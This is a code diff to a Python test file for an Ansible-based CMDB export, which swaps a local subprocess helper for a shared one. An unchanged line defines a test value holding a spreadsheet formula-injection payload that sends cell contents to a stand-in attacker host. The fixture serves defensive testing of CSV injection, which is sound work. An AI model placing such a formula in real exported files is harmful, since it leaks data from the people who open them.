@@ -13,7 +13,6 @@ from __future__ import annotations
 import csv
 import json
 import os
-import subprocess
 
 import pytest
 
@@ -36,18 +35,7 @@ EVIL_NAME_VALUE = ' =HYPERLINK("http://attacker.example/?"&A1)'
 FILES = ("cmdb.csv", "cmdb.json", "cmdb-errors.csv")
 
 
-def export(inventory: str, endpoint: str, out_dir, *args: str) -> cli.Result:
-    cmd = [
-        os.path.join(cli.BIN, "ansible-playbook"),
-        "crossaccount.aws.cmdb_export",
-        "-i",
-        inventory,
-        "-e",
-        f"cmdb_export_dir={out_dir}",
-        *args,
-    ]
-    proc = subprocess.run(cmd, env=cli.ansible_env(endpoint), capture_output=True, text=True, timeout=300)
-    return cli.Result(proc.returncode, proc.stdout, proc.stderr)
+export = cli.export
 
 
 def files_of(out_dir) -> dict[str, bytes]:
